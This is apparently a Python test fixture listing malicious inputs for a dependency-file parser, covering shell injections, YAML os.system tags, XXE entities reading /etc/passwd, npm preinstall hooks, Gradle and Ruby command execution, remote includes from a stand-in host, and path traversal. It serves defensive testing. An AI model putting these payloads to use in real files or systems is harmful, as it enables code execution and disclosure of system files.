"""Text that does harm if it is run, imported, looked up or expanded."""

from __future__ import annotations

TEXTS = (
    "import os\nos.system('touch run-by-python')\nopen('written-by-python', 'w')\n"
    "__import__('antigravity')\nimport_module('this')\nraise SystemExit(1)\n",
    "import (\n",
    "from setuptools import setup\nsetup(install_requires=open('/etc/passwd').readlines())\n"
    "exec('import os; os.abort()')\n",
    "# /// script\n# dependencies = ['a @ file:///etc/passwd', \"$(touch run-by-shell)\"]\n# ///\n",
    "pip install $(touch run-by-shell) `touch run-by-shell` -r /etc/passwd a; touch run-by-shell\n"
    "eval 'touch run-by-shell'\nbash -c 'touch run-by-shell'\n"
    "cat <<E | sh\ntouch run-by-shell\nE\n",
    "all: ; touch run-by-make\n\tpip install $(shell touch run-by-make)\ninclude /etc/passwd\n",
    "FROM a\nRUN touch run-by-docker\nCOPY /etc/passwd /\nADD https://a.example/b /\n",
    "- !!python/object/apply:os.system ['touch run-by-yaml']\n- !!python/name:os.abort\n"
    "- &a [*a, *a]\n",
    "run: !!python/object/new:os.system [touch run-by-yaml]\n",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY % c SYSTEM "http://a.example/">'
    "%c;]><project><dependency><groupId>&b;</groupId></dependency></project>",
    '<!DOCTYPE a SYSTEM "http://a.example/b.dtd"><Project>'
    '<PackageReference Include="a"/></Project>',
    '<Project xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="/etc/passwd"/></Project>',
    '{"dependencies": {"a": "file:/etc/passwd", "b": "git+ssh://a.example/b"},'
    ' "scripts": {"preinstall": "touch run-by-npm"}, "__proto__": {"a": 1}}',
    '[project]\ndynamic = ["dependencies"]\ndependencies = ["a @ file:///etc/passwd"]\n'
    '[tool.setuptools.dynamic]\ndependencies = {file = ["/etc/passwd"]}\n',
    "[options]\ninstall_requires = file: /etc/passwd\nversion = attr: os.abort\n",
    "-r /etc/passwd\n-c https://a.example/b\n--find-links /etc\n-e .\na @ file:///etc/passwd\n",
    'source "https://a.example"\neval_gemfile "/etc/passwd"\ngem "a", path: `touch run-by-ruby`\n'
    'gem "#{`touch run-by-ruby`}"\n',
    "apply from: 'https://a.example/b.gradle'\n"
    'dependencies { implementation "touch run-by-gradle".execute() }\n',
    '#r "nuget: A"\n#load "/etc/passwd"\n#r "/etc/passwd"\n',
    '{"cells": [{"cell_type": "code", "source": ["!touch run-by-shell\\n", "import os"]}]}',
    '{"name": "bash", "arguments": "{\\"command\\": \\"touch run-by-shell; pip install a\\"}"}',
    "```python\nimport os; os.abort()\n```\n```sh\ntouch run-by-shell\n```\n[a](file:///etc/passwd)\n",
    "--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n+import a\n",
)
